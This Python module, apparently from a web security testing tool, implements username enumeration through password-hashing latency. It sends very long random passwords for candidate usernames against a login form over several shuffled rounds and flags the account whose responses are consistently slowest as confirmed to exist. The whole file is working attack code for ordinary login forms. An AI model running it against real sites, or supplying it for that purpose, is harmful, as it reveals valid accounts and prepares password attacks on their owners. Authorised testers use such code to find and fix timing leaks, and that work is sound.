"""Username enumeration from password-hashing latency.

An existing account makes the server hash the submitted password, a
missing one usually short-circuits.  Submitting a very long password
stretches that gap until it dominates network jitter.
"""

from __future__ import annotations

import logging
import random
import statistics
import string
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence

from .http_session import HttpSession, ResponsePage, TransportError
from .page_analyzer import FormDescriptor

logger = logging.getLogger(__name__)

DEFAULT_ROUNDS = 5
DEFAULT_PASSWORD_LENGTH = 4096
DEFAULT_MARGIN = 0.30
MAX_ERROR_RATE = 0.20


class ProbeAborted(Exception):
    """Too many samples were lost to transport errors."""


@dataclass
class TimingTrial:
    username: str
    samples: List[float] = field(default_factory=list)

    @property
    def median(self) -> float:
        return statistics.median(self.samples)


@dataclass
class ProbeReport:
    ranking: List[TimingTrial]
    round_samples: List[Dict[str, float]]
    round_leaders: List[str]
    confirmed: bool
    leader: Optional[str]
    margin: float
    errors: int = 0

    def to_dict(self) -> dict:
        return {
            "confirmed": self.confirmed,
            "leader": self.leader,
            "margin": self.margin,
            "ranking": [{"username": t.username, "median_ms": round(t.median, 3)} for t in self.ranking],
            "round_leaders": self.round_leaders,
            "round_samples_ms": [{u: round(ms, 3) for u, ms in r.items()} for r in self.round_samples],
            "errors": self.errors,
        }


def decide(round_samples: Sequence[Dict[str, float]], margin: float = DEFAULT_MARGIN) -> ProbeReport:
    """Rank candidates by median latency and apply the confirmation rule.

    The leader is confirmed only when it is the slowest candidate in every
    round and its median beats the runner-up's by ``margin`` (relative).
    """
    trials: Dict[str, TimingTrial] = {}
    leaders = []
    for samples in round_samples:
        for user, ms in samples.items():
            trials.setdefault(user, TimingTrial(user)).samples.append(ms)
        if samples:
            leaders.append(max(samples, key=lambda u: (samples[u], u)))
    ranking = sorted(trials.values(), key=lambda t: (-t.median, t.username))
    leader = ranking[0].username if ranking else None
    confirmed = False
    if len(ranking) >= 2 and leaders and all(l == leader for l in leaders):
        runner_up = ranking[1].median
        confirmed = ranking[0].median > runner_up * (1.0 + margin)
    return ProbeReport(
        ranking=ranking, round_samples=list(round_samples), round_leaders=leaders,
        confirmed=confirmed, leader=leader, margin=margin,
    )


def long_password(rng: random.Random, length: int) -> str:
    alphabet = string.ascii_letters + string.digits
    return "".join(rng.choice(alphabet) for _ in range(length))


def probe_usernames(
    session: HttpSession,
    form: FormDescriptor,
    candidates: Sequence[str],
    rounds: int = DEFAULT_ROUNDS,
    long_password_length: int = DEFAULT_PASSWORD_LENGTH,
    margin: float = DEFAULT_MARGIN,
    seed: Optional[int] = None,
    on_submit: Optional[Callable[[str, str, ResponsePage], None]] = None,
) -> ProbeReport:
    if rounds < 1:
        raise ValueError("rounds must be positive")
    rng = random.Random(seed)
    order = list(dict.fromkeys(candidates))
    round_samples: List[Dict[str, float]] = []
    errors = total = 0
    previous: List[str] = []
    for _ in range(rounds):
        rng.shuffle(order)
        while len(order) > 1 and order == previous:
            rng.shuffle(order)
        previous = list(order)
        samples: Dict[str, float] = {}
        for user in order:
            total += 1
            password = long_password(rng, long_password_length)
            try:
                page = session.submit(form, form.payload(user, password))
            except TransportError as exc:
                errors += 1
                logger.debug("probe sample for %r lost: %s", user, exc)
                continue
            samples[user] = page.elapsed
            if on_submit is not None:
                on_submit(user, password, page)
        round_samples.append(samples)
    if total and errors / total > MAX_ERROR_RATE:
        raise ProbeAborted(f"{errors}/{total} probe samples failed")
    report = decide(round_samples, margin)
    report.errors = errors
    return report
